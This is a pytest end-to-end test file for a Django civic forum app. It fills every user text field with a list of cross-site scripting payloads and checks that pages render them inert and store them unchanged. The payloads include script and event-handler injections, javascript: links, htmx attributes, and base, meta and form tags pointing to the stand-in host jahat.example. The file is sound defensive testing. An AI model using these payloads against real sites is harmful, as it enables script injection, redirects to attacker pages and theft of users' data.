"""Hostile text in every field where people say, write or decide, drawn by a real browser (reliability T6)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from conftest import NIGHT
from muara.web.accounts.models import Notice, Participant, User
from muara.web.cities.models import City
from muara.web.concerns import actions
from muara.web.concerns.models import Concern, Statement, Topic
from muara.web.forum.models import Session

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>klik</text></a></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>tutup</div>",
    "<base href='https://jahat.example/'>",
    "<meta http-equiv=refresh content='0;url=https://jahat.example/'>",
    "<form action='https://jahat.example/'><button>kirim</button></form>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<div hx-get='/purwokerto/' hx-trigger='load' hx-target='body'>muat</div>",
    "<div data-hx-get='/purwokerto/' data-hx-trigger='load'>muat</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "{{ constructor.constructor('alert(1)')() }}{% load x %}",
]
SIGNS = [
    "main script", "main iframe", "main base", "main meta", "main style", "main [onerror]", "main [onload]",
    "main [style]", "main [onfocus]", "main [ontoggle]", "main [onmouseover]", "main a[href^='javascript']",
    "main [hx-get='/purwokerto/']", "main [data-hx-get]", "main math", "main form[action*='jahat']",
]  # fmt: skip


@pytest.fixture
def filled(city: City, session: Session, novita: User, make_participant: Callable[..., Participant]) -> Topic:
    """Put every payload into every text of this room: as a concern, a statement, a role, a reason, a version."""
    topic = actions.plan_topic(
        by=novita, city=city, session=session, title=PAYLOADS[0], question=PAYLOADS[1], at=NIGHT
    )
    actions.open_topic(by=novita, topic=topic, at=NIGHT)
    Session.objects.update(theme=PAYLOADS[2], question=PAYLOADS[21])
    worded = []
    for n, payload in enumerate(PAYLOADS):
        person = make_participant()
        words = {"because": payload, "affected": payload, "tried": payload, "role": payload[:80], "at": NIGHT}
        worded.append(actions.raise_concern(by=person, topic=topic, **words))
        actions.raise_concern(by=make_participant(), session=session, **words)
        actions.write_statement(by=person, topic=topic, text=f"Baru {n} {payload}", role=payload[:80], at=NIGHT)
    for n, (concern, payload) in enumerate(zip(worded, PAYLOADS, strict=True)):
        made = actions.word_statement(
            by=novita, topic=topic, concerns=[concern], text=f"{payload} {n}", role=payload[:80], at=NIGHT
        )
        actions.mend_typo(by=novita, statement=made, text=f"{payload} {n} a", at=NIGHT)
    for statement, payload in zip(Statement.objects.waiting()[:9], PAYLOADS, strict=False):
        actions.reject_statement(by=novita, statement=statement, reason=payload, at=NIGHT)
    for concern, payload in zip(Concern.objects.waiting()[:9], reversed(PAYLOADS), strict=False):
        actions.reject_concern(by=novita, concern=concern, reason=payload, at=NIGHT)
    return topic


def inert(page: Any) -> list[str]:
    return [sign for sign in SIGNS if page.locator(sign).count()]


def test_no_payload_comes_alive_on_any_page(open_page: Callable[..., Any], novita: User, filled: Topic):
    here = f"/purwokerto/suara/{filled.slug}/"
    page = open_page("/purwokerto/moderasi/", user=novita)
    alive: list[str] = []
    page.on("dialog", lambda dialog: (alive.append(dialog.message), dialog.dismiss()))
    rejected = Concern.objects.filter(status="REJECTED").first()
    addresses = [
        "/purwokerto/moderasi/", "/purwokerto/moderasi/catatan/", "/purwokerto/moderasi/rumuskan/",
        "/purwokerto/keresahan/", "/purwokerto/keresahan/?keadaan=belum", f"/purwokerto/keresahan/{rejected.pk}/",
        "/purwokerto/keresahan/baru/25/", f"/purwokerto/keresahan/baru/?topik={filled.slug}",
        "/purwokerto/keresahan/catat/", "/purwokerto/suara/", here, f"{here}kelola/", f"{here}ubah/",
        f"{here}tulis/", f"{here}benih/", "/purwokerto/sesi/25/",
        *(f"{here}{n}/" for n in filled.statements.order_by("number").values_list("number", flat=True)[26:52]),
    ]  # fmt: skip
    for address in addresses:
        page.goto(address)
        assert inert(page) == [], address
    assert alive == []


def test_what_is_typed_into_the_queue_comes_back_inert_too(
    open_page: Callable[..., Any], novita: User, filled: Topic
):
    page = open_page("/purwokerto/moderasi/", user=novita)
    alive: list[str] = []
    page.on("dialog", lambda dialog: (alive.append(dialog.message), dialog.dismiss()))
    for payload in PAYLOADS[::5]:
        card = page.locator(".item:has(details[data-key=r])").first
        key = card.get_attribute("id")
        card.locator("details[data-key=g] summary").click()

        card.get_by_label("Nomor").fill(payload)
        card.get_by_role("button", name="Satukan", exact=True).click()
        page.locator(f"#{key} .error").first.wait_for()
        assert page.locator(f"#{key}").get_by_label("Nomor").input_value() == payload
        assert inert(page) == []
        page.locator(f"#{key} details[data-key=x] summary").click()
        page.locator(f"#{key}").get_by_label("Alasan").fill(payload)
        page.locator(f"#{key} details[data-key=x] button").click()
        page.locator(f"#{key} [data-told]").wait_for()
        assert inert(page) == []
    assert alive == []


def test_what_people_are_told_is_inert_as_well(open_page: Callable[..., Any], novita: User, filled: Topic):
    told = Notice.objects.first().participant
    told.user = novita
    told.save()

    page = open_page("/purwokerto/saya/", user=novita)

    assert page.locator("main li").count() > 0
    assert inert(page) == []


def test_every_payload_is_kept_as_it_was_typed(client: Client, filled: Topic):
    """Escaping is for the page: what people said is neither cut nor changed."""
    assert set(Concern.objects.values_list("because", flat=True)) == set(PAYLOADS)
    page = client.get("/purwokerto/suara/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
